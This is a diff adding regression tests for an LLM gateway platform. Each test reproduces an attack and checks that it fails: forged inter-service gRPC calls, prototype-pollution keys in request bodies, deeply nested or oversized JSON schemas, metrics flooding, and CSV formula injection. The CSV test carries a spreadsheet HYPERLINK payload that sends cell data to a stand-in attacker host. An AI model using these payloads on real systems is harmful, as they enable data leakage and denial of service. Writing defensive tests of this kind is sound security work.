@@ -1,0 +1,222 @@
+// Regression tests for the attacks of issue 11, against the real platform (auth-audit and a worker as
+// processes on their built entry points, the gateway in-process, mutual TLS on every internal hop, PGlite,
+// the stories260K model). Each test reproduces one attack and asserts it fails.
+import { readFileSync } from 'node:fs';
+import { randomBytes } from 'node:crypto';
+import { status, type ServiceError } from '@grpc/grpc-js';
+import {
+  SERVICE_IDENTITY,
+  createWorkerClient,
+  internalChannelCredentials,
+  type InternalTransport,
+  type ServiceName,
+  type ServiceTlsFiles,
+} from '@airlock/contracts';
+import { createAuditClient, grpcCode } from '../../apps/auth-audit/test/support/audit-client.js';
+import { MODEL, Platform, describeWithModels, type Json } from '../e2e/platform.js';
+
+const transportOf = (files: ServiceTlsFiles): InternalTransport => ({
+  kind: 'mtls',
+  caFile: files.AIRLOCK_TLS_CA_FILE,
+  certFile: files.AIRLOCK_TLS_CERT_FILE,
+  keyFile: files.AIRLOCK_TLS_KEY_FILE,
+  refreshMs: 60_000,
+});
+
+describeWithModels('attacks from issue 11 (real platform, mTLS)', () => {
+  const platform = new Platform({ database: 'pglite' });
+
+  beforeAll(async () => {
+    await platform.start();
+  });
+
+  afterAll(async () => {
+    await platform.close();
+  });
+
+  const chat = (body: Record<string, unknown>, headers: Record<string, string> = {}) =>
+    fetch(`${platform.url}/v1/chat/completions`, {
+      method: 'POST',
+      headers: {
+        authorization: `Bearer ${platform.adminKey}`,
+        'content-type': 'application/json',
+        ...headers,
+      },
+      body: JSON.stringify(body),
+    });
+  const base = { model: MODEL, messages: [{ role: 'user', content: 'Hi' }], max_tokens: 2 };
+
+  async function forgedRecords(): Promise<number> {
+    const { json } = await platform.admin('GET', '/audit/records?request_id=forged-request');
+    return ((json as Json).data as unknown[]).length;
+  }
+
+  describe('no authentication between services', () => {
+    const forgedComplete = {
+      requestId: 'forged-request',
+      outcome: 'COMPLETION_OUTCOME_SUCCEEDED',
+      statusCode: 200,
+      promptTokens: 1_000_000,
+      completionTokens: 1_000_000,
+      worker: 'forged-by-anyone-on-the-network',
+    };
+
+    it('auth-audit refuses Complete from a client without a certificate, and from any service but the gateway', async () => {
+      const plaintext = createAuditClient(platform.authAuditAddress);
+      expect(await grpcCode(plaintext.complete(forgedComplete as never))).toBe(status.UNAVAILABLE);
+      plaintext.close();
+      for (const service of ['worker', 'auth-audit'] as ServiceName[]) {
+        const client = createAuditClient(
+          platform.authAuditAddress,
+          internalChannelCredentials(transportOf(platform.tls[service]), SERVICE_IDENTITY.authAudit),
+        );
+        expect(await grpcCode(client.complete(forgedComplete as never))).toBe(status.PERMISSION_DENIED);
+        expect(await grpcCode(client.listTenants({ credential: platform.adminKey }))).toBe(
+          status.PERMISSION_DENIED,
+        );
+        client.close();
+      }
+      expect(await forgedRecords()).toBe(0);
+    });
+
+    it('a worker refuses inference from anyone but the gateway', async () => {
+      const getStatus = (credentials?: ReturnType<typeof internalChannelCredentials>) =>
+        new Promise<ServiceError | null>((resolve) => {
+          const client = createWorkerClient(
+            platform.workerAddress,
+            { 'grpc.ssl_target_name_override': 'airlock.internal' },
+            credentials,
+          );
+          (client.getStatus as (r: object, o: object, cb: (e: ServiceError | null) => void) => void)(
+            {},
+            { deadline: Date.now() + 10_000 },
+            (error) => {
+              client.close();
+              resolve(error);
+            },
+          );
+        });
+      expect((await getStatus())?.code).toBe(status.UNAVAILABLE);
+      const asAuditService = internalChannelCredentials(
+        transportOf(platform.tls['auth-audit']),
+        SERVICE_IDENTITY.worker,
+      );
+      expect((await getStatus(asAuditService))?.code).toBe(status.PERMISSION_DENIED);
+      const asGateway = internalChannelCredentials(
+        transportOf(platform.tls.gateway),
+        SERVICE_IDENTITY.worker,
+      );
+      expect(await getStatus(asGateway)).toBeNull();
+    });
+  });
+
+  describe('parsing', () => {
+    it.each(['__proto__', 'hasOwnProperty', 'valueOf', 'constructor', 'toString', 'isPrototypeOf'])(
+      'a body key %s is an unsupported parameter (400), never a 500 or silently accepted',
+      async (key) => {
+        const text = JSON.stringify(base).replace(/^\{/, `{"${key}": {"x": 1},`);
+        const response = await fetch(`${platform.url}/v1/chat/completions`, {
+          method: 'POST',
+          headers: { authorization: `Bearer ${platform.adminKey}`, 'content-type': 'application/json' },
+          body: text,
+        });
+        expect(response.status).toBe(400);
+        expect(((await response.json()) as Json).error.param).toBe(key);
+      },
+    );
+
+    const nested = (depth: number): Record<string, unknown> => {
+      let schema: Record<string, unknown> = { type: 'string' };
+      for (let i = 0; i < depth; i += 1) schema = { type: 'object', properties: { a: schema } };
+      return schema;
+    };
+
+    it('deep nesting in tool parameters, a JSON schema or the body is a 400 naming the limit', async () => {
+      const tools = [{ type: 'function', function: { name: 'f', parameters: nested(10) } }];
+      const viaTools = await chat({ ...base, tools });
+      expect(viaTools.status).toBe(400);
+      expect(((await viaTools.json()) as Json).error.message).toContain('schema_max_depth');
+
+      const format = { type: 'json_schema', json_schema: { name: 'x', schema: nested(10) } };
+      const viaFormat = await chat({ ...base, response_format: format });
+      expect(viaFormat.status).toBe(400);
+
+      const deepBody = `{"model":"${MODEL}","messages":[{"role":"user","content":"Hi"}],"x":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
+      const viaBody = await fetch(`${platform.url}/v1/chat/completions`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${platform.adminKey}`, 'content-type': 'application/json' },
+        body: deepBody,
+      });
+      expect(viaBody.status).toBe(400);
+      expect(((await viaBody.json()) as Json).error.message).toMatch(/nests deeper than 64/);
+    });
+  });
+
+  describe('bounded work per request', () => {
+    it('a 40 000-value enum, a 100 KB schema or a huge repetition bound is a 400 naming the limit', async () => {
+      const enumSchema = {
+        type: 'object',
+        properties: { v: { enum: Array.from({ length: 40_000 }, (_, i) => `value_${i}`) } },
+      };
+      const cases: [Record<string, unknown>, string][] = [
+        [enumSchema, 'schema_max_bytes'],
+        [
+          { type: 'object', properties: { v: { enum: Array.from({ length: 600 }, (_, i) => i) } } },
+          'schema_max_enum_values',
+        ],
+        [{ type: 'array', items: { type: 'string' }, minItems: 100_000 }, 'schema_max_repetition'],
+      ];
+      for (const [schema, limit] of cases) {
+        const response = await chat({
+          ...base,
+          response_format: { type: 'json_schema', json_schema: { name: 'x', schema } },
+        });
+        expect(response.status).toBe(400);
+        const error = ((await response.json()) as Json).error;
+        expect(error.message).toContain(limit);
+        expect(error.param).toBe('response_format.json_schema.schema');
+      }
+    });
+  });
+
+  describe('metrics cardinality', () => {
+    it('requests with random model names add one "unknown" series, not one per name', async () => {
+      const series = async () => {
+        const text = await (await fetch(`http://127.0.0.1:${platform.opsPorts.gateway}/metrics`)).text();
+        return text.split('\n').filter((line) => line.startsWith('airlock_gateway_requests_total{'));
+      };
+      for (let i = 0; i < 200; i += 1) {
+        await fetch(`${platform.url}/v1/chat/completions`, {
+          method: 'POST',
+          headers: { 'content-type': 'application/json' },
+          body: JSON.stringify({ ...base, model: `random-${randomBytes(6).toString('hex')}` }),
+        });
+      }
+      const lines = await series();
+      const models = new Set(lines.map((line) => /model="([^"]*)"/.exec(line)?.[1]));
+      expect([...models].filter((model) => model?.startsWith('random-'))).toEqual([]);
+      expect(models).toContain('unknown');
+      expect(lines.length).toBeLessThan(20);
+    });
+  });
+
+  describe('CSV export', () => {
+    it('escapes User-Agents that a spreadsheet would run as a formula', async () => {
+      for (const start of ['=', '+', '-', '@']) {
+        const agent = `${start}HYPERLINK("http://attacker.example/?leak="&A1,"click")`;
+        const response = await chat(base, { 'user-agent': agent });
+        expect(response.status).toBe(200);
+        await platform.auditRecords(response.headers.get('x-request-id')!);
+      }
+      const csv = await (
+        await fetch(`${platform.url}/admin/v1/audit/export?format=csv`, {
+          headers: { authorization: `Bearer ${platform.adminKey}` },
+        })
+      ).text();
+      for (const start of ['=', '+', '-', '@']) {
+        expect(csv).toContain(`"'${start}HYPERLINK(""http://attacker.example/`);
+        expect(csv).not.toContain(`,"${start}HYPERLINK`);
+      }
+    });
+  });
+});
